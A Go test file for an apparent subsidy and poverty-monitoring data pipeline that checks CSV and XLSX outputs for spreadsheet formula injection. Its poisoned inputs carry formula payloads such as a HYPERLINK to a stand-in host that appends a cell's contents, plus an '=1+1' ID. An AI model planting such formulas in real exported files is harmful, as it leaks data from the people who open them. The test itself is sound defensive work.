package pipeline_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/paicha/paicha/pipeline"
	"github.com/paicha/paicha/pipeline/discover"
	"github.com/paicha/paicha/pipeline/write"
	"github.com/paicha/paicha/rules"
)

// leads are the starts of SPEC §8 that make a cell a formula.
var leads = []string{"=", "+", "-", "@", "\t", "\r"}

// poison prefixes v with the k-th lead and a formula.
func poison(k int, v string) string {
	return leads[k%len(leads)] + `HYPERLINK("http://x/"&A1,"` + v + `")`
}

// runsAsFormula is what a spreadsheet program would run: a cell starting
// with a lead that is not a plain number.
func runsAsFormula(v string) bool {
	if v == "" || !strings.ContainsAny(v[:1], "=+-@\t\r") {
		return false
	}
	if v[0] == '+' || v[0] == '-' {
		if _, err := strconv.ParseFloat(v, 64); err == nil {
			return false
		}
	}
	return true
}

// readCSV reads a whole UTF-8 CSV file, BOM or not.
func readCSV(p string) ([][]string, error) {
	b, err := os.ReadFile(p)
	if err != nil {
		return nil, err
	}
	return csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\xef\xbb\xbf")))).ReadAll()
}

// poisonedInputs copies the conformance inputs with every name, village and
// item (姓名, 村, 补贴项目 columns, survey and CSV alike) starting with a
// formula, and one card row rejected for its ID whose raw text is one.
func poisonedInputs(t *testing.T, src string) string {
	t.Helper()
	dst := filepath.Join(t.TempDir(), "inputs")
	k := 0
	target := func(h string) bool {
		h = strings.TrimSpace(h)
		return (strings.Contains(h, "姓名") || h == "村" || strings.Contains(h, "嘎查村") || h == "补贴项目") && !strings.Contains(h, "身份证")
	}
	err := filepath.WalkDir(src, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(src, p)
		out := filepath.Join(dst, rel)
		if d.IsDir() {
			return os.MkdirAll(out, 0o755)
		}
		switch filepath.Ext(p) {
		case ".csv":
			recs, err := readCSV(p)
			if err != nil {
				return err // a GBK file would fail here: the set has none
			}
			for c, h := range recs[0] {
				if target(h) {
					for _, r := range recs[1:] {
						r[c] = poison(k, r[c])
						k++
					}
				}
			}
			if strings.Contains(rel, "一卡通") {
				bad := append([]string(nil), recs[1]...)
				for c, h := range recs[0] {
					if strings.Contains(h, "身份证") {
						bad[c] = "=1+1"
					}
				}
				recs = append(recs, bad)
			}
			var buf bytes.Buffer
			w := csv.NewWriter(&buf)
			w.WriteAll(recs)
			return os.WriteFile(out, buf.Bytes(), 0o644)
		case ".xlsx":
			f, err := excelize.OpenFile(p)
			if err != nil {
				return err
			}
			defer f.Close()
			for _, sh := range f.GetSheetList() {
				rows, _ := f.GetRows(sh)
				for hr := 0; hr < min(len(rows), 10); hr++ {
					var cols []int
					for c, h := range rows[hr] {
						if target(h) {
							cols = append(cols, c)
						}
					}
					if len(cols) == 0 {
						continue
					}
					for r := hr + 1; r < len(rows); r++ {
						for _, c := range cols {
							if c < len(rows[r]) && strings.TrimSpace(rows[r][c]) != "" {
								cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
								f.SetCellStr(sh, cell, poison(k, rows[r][c]))
								k++
							}
						}
					}
					break
				}
			}
			return f.SaveAs(out)
		}
		b, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		return os.WriteFile(out, b, 0o644)
	})
	if err != nil {
		t.Fatal(err)
	}
	return dst
}

// TestNoOutputCellRunsAsFormula feeds names, villages, items and a rejected
// row that begin with =, +, -, @, TAB and CR through a whole run, with
// changes.csv, and opens every output as a spreadsheet program would: no
// CSV cell starts a formula, no workbook cell is one (SPEC §8).
func TestNoOutputCellRunsAsFormula(t *testing.T) {
	conf := conformanceDir(t)
	params := rules.Defaults()
	first := filepath.Join(t.TempDir(), "first")
	run(t, pipeline.Config{Inputs: []discover.Spec{{Path: filepath.Join(conf, "inputs")}}, Out: first,
		Params: params, Formats: write.Formats{CSV: true, XLSX: true}, Changes: true})
	out := filepath.Join(t.TempDir(), "out")
	run(t, pipeline.Config{Inputs: []discover.Spec{{Path: poisonedInputs(t, filepath.Join(conf, "inputs"))}}, Out: out,
		Params: params, Formats: write.Formats{CSV: true, XLSX: true}, Changes: true, Previous: first})

	escaped := map[string]int{}
	books := 0
	err := filepath.WalkDir(out, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		rel, _ := filepath.Rel(out, p)
		switch filepath.Ext(p) {
		case ".csv":
			recs, err := readCSV(p)
			if err != nil {
				return err
			}
			for _, rec := range recs {
				for _, v := range rec {
					if runsAsFormula(v) {
						t.Errorf("%s: cell %q runs as a formula", rel, v)
					}
					if strings.HasPrefix(v, "'") {
						escaped[rel]++
					}
					if strings.HasPrefix(v, "'-") {
						if _, err := strconv.ParseFloat(v[1:], 64); err == nil {
							t.Errorf("%s: the number %q was escaped", rel, v)
						}
					}
				}
			}
		case ".xlsx":
			books++
			zr, err := zip.OpenReader(p)
			if err != nil {
				return err
			}
			defer zr.Close()
			for _, zf := range zr.File {
				if !strings.HasPrefix(zf.Name, "xl/worksheets/") {
					continue
				}
				rc, _ := zf.Open()
				x, _ := io.ReadAll(rc)
				rc.Close()
				if bytes.Contains(x, []byte("<f>")) || bytes.Contains(x, []byte("<f ")) {
					t.Errorf("%s %s: a formula cell", rel, zf.Name)
				}
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("escaped cells per file: %v; %d workbooks", escaped, books)
	// the test must have fed each kind of list something to escape
	for _, f := range []string{"candidates.csv", "discrepancies.csv", "rejects.csv", "changes.csv"} {
		if escaped[f] == 0 {
			t.Errorf("%s: no escaped cell: the poisoned inputs did not reach it", f)
		}
	}
	// names keep their text in the workbooks: a poisoned 户主姓名 on a notice
	found := false
	filepath.WalkDir(filepath.Join(out, "public"), func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || found {
			return err
		}
		f, err := excelize.OpenFile(p)
		if err != nil {
			return err
		}
		defer f.Close()
		rows, _ := f.GetRows("新识别监测对象公示")
		for _, r := range rows {
			if len(r) > 2 && strings.Contains(r[2], "HYPERLINK(") {
				found = true
			}
		}
		return nil
	})
	if !found {
		t.Errorf("no poisoned 户主姓名 on any notice, as text")
	}
}
